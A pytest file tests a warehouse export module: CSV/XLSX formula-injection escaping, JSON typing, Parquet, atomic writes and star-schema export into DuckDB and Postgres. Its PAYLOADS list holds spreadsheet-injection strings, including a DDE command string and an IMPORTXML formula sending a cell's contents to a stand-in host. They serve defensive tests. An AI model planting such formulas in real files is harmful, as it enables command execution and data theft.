"""Files for other tools: nothing runs when opened, nothing is half written."""

import csv
import hashlib
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from records.errors import ScrmError, UsageError
from warehouse import migrations, postgres
from warehouse.export import export_star, write_result
from warehouse.tables import METADATA

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=HYPERLINK(\"http://example.invalid\",\"点我\")",
    "=IMPORTXML(CONCAT(\"http://example.invalid?\",A1),\"//a\")", "\u3000=1+1", "\x00=1+1",
)  # fmt: skip
"""Cells that a spreadsheet may run, blanks and full-width signs before them included (OWASP, CSV Injection)."""
TABLE = pa.table(
    {
        "文字": ["=1+1", "+86", "-2", "@x", "好喝", None],
        "n": [-1, 2, 3, 4, 5, None],
        "at": pa.array([datetime(2026, 3, 1, 4, tzinfo=UTC)] * 6, pa.timestamp("us", tz="Asia/Shanghai")),
        "day": [date(2026, 3, 1)] * 6,
        "d": [Decimal("1.50")] * 6,
        "ok": [True] * 6,
    }
)


def test_csv_is_for_excel_and_runs_nothing(tmp_path: Path) -> None:
    target = tmp_path / "r.csv"
    write_result(TABLE, target)
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert [row[0] for row in rows] == ["文字", "'=1+1", "'+86", "'-2", "'@x", "好喝", ""]
    assert rows[1][1:] == ["-1", "2026-03-01T12:00:00+08:00", "2026-03-01", "1.5", "True"]


def test_no_payload_runs_from_a_csv(tmp_path: Path) -> None:
    payloads = [*PAYLOADS, '安全的,"带引号"\n两行']
    write_result(pa.table({"=title()": payloads}), tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *rows = list(csv.reader(file))
    assert header == ["'=title()"]
    assert rows == [*([f"'{payload}"] for payload in PAYLOADS), [payloads[-1]]]


def test_no_payload_runs_from_a_workbook(tmp_path: Path) -> None:
    shown = [payload for payload in PAYLOADS if payload.isprintable()]
    write_result(
        pa.table({"=title()": [*PAYLOADS], "url": ["http://example.invalid"] * len(PAYLOADS)}), tmp_path / "r.xlsx"
    )
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert all(cell.hyperlink is None for cell in cells)
    assert set(shown) <= {cell.value for cell in cells}


def test_json_keeps_types(tmp_path: Path) -> None:
    write_result(TABLE, tmp_path / "r.json")
    rows = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert rows[0] == {
        "文字": "=1+1", "n": -1, "at": "2026-03-01T12:00:00+08:00", "day": "2026-03-01", "d": 1.5, "ok": True,
    }  # fmt: skip
    assert rows[5]["n"] is None


def test_columns_of_one_name_stay_apart_and_json_is_json(tmp_path: Path) -> None:
    blob, nested = pa.array([b"\x00\xff"]), pa.array([[{"x": float("-inf")}]])
    table = pa.Table.from_arrays([pa.array([1]), pa.array([float("nan")]), blob, nested], names=["a", "a", "a_2", "b"])
    write_result(table, tmp_path / "r.json")
    rows = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"), parse_constant=lambda name: name)
    assert rows == [{"a": 1, "a_3": None, "a_2": "00ff", "b": [{"x": None}]}]
    write_result(table, tmp_path / "r.csv")
    assert (tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()[0] == "a,a_3,a_2,b"


def test_parquet_is_the_table(tmp_path: Path) -> None:
    write_result(TABLE, tmp_path / "r", format="parquet")
    assert pq.read_table(tmp_path / "r").equals(TABLE)


def test_xlsx_holds_text_not_formulas(tmp_path: Path) -> None:
    write_result(TABLE, tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    assert sheet is not None
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=1+1", "s")
    assert sheet["B2"].value == -1
    assert sheet["C2"].value == datetime(2026, 3, 1, 12)
    assert sheet["A7"].value is None


def test_an_unknown_format_is_named(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="docx"):
        write_result(TABLE, tmp_path / "r.docx")


def test_a_failing_writer_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(__import__("warehouse.export", fromlist=["WRITERS"]).WRITERS, "csv", full)
    with pytest.raises(ScrmError, match="No space left"):
        write_result(TABLE, tmp_path / "r.csv")
    assert list(tmp_path.iterdir()) == []


def test_the_whole_star_without_wording(built: Path, tmp_path: Path) -> None:
    counts = export_star(built, tmp_path / "star")
    manifest = json.loads((tmp_path / "star" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["has_restricted_columns"] is False
    assert manifest["schema"] == migrations.head()
    assert set(counts) == set(METADATA.tables) - {"content_text"}
    for entry in manifest["tables"]:
        file = tmp_path / "star" / entry["file"]
        assert pq.read_metadata(file).num_rows == entry["row_count"] == counts[entry["table"]]
        assert hashlib.sha256(file.read_bytes()).hexdigest() == entry["sha256"]
        assert file.stat().st_size == entry["byte_count"]
        assert pq.read_schema(file).names == [column["name"] for column in entry["columns"]]
        assert entry["privacy"] in ("public", "pseudonymous")
    with pytest.raises(UsageError, match="already holds an export"):
        export_star(built, tmp_path / "star")


def test_an_export_that_fails_leaves_nothing(built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("warehouse.export.star.pq.ParquetWriter", full)
    with pytest.raises(ScrmError, match="star: cannot write the export .No space left"):
        export_star(built, tmp_path / "star")
    assert [each.name for each in tmp_path.iterdir() if "star" in each.name] == []


def test_the_wording_when_asked_for(built: Path, tmp_path: Path) -> None:
    assert export_star(built, tmp_path / "star", with_restricted=True)["content_text"] == 17
    manifest = json.loads((tmp_path / "star" / "manifest.json").read_text(encoding="utf-8"))
    assert {e["table"] for e in manifest["tables"] if e["privacy"] == "restricted"} >= {"content_text"}


def test_another_duckdb_takes_the_whole_star(built: Path, tmp_path: Path) -> None:
    counts = export_star(built, tmp_path / "star")
    with duckdb.connect() as connection:
        connection.execute((tmp_path / "star" / "ddl" / "duckdb.sql").read_text(encoding="utf-8"))
        for name, count in counts.items():
            connection.execute(f"COPY {name} FROM '{tmp_path}/star/{name}.parquet' (FORMAT parquet)")
            assert connection.execute(f"SELECT count(*) FROM {name}").fetchone() == (count,)
        said = connection.execute("SELECT comment FROM duckdb_columns() WHERE column_name = 'organic_count'").fetchall()
        assert "自然声量" in said[0][0]


def test_another_postgres_takes_the_whole_star(built: Path, tmp_path: Path, empty_database: str) -> None:
    export_star(built, tmp_path / "star")
    script = (tmp_path / "star" / "ddl" / "postgresql.sql").read_text(encoding="utf-8")
    tables, keys = script.split("ALTER TABLE", 1)
    with postgres.engine_for(empty_database).connect() as connection:
        connection.exec_driver_sql(tables.replace("%", "%%"))
        for name in METADATA.tables:
            file = tmp_path / "star" / f"{name}.parquet"
            if file.exists():
                rows = pq.read_table(file)
                assert postgres.copy_arrow(connection, name, rows) == rows.num_rows
        connection.exec_driver_sql("ALTER TABLE" + keys)  # every key finds its dimension, special members included
